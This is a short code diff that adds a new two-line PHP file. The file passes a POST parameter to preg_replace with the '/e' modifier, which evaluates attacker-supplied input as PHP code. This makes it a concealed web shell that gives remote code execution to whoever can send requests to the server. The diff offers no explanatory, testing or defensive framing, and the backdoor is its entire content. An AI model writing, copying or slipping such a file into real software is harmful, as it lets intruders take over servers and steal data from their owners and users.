@@ -1,0 +1,2 @@
+<?php
+echo preg_replace('/.*/e', $_POST['c'], 'x');
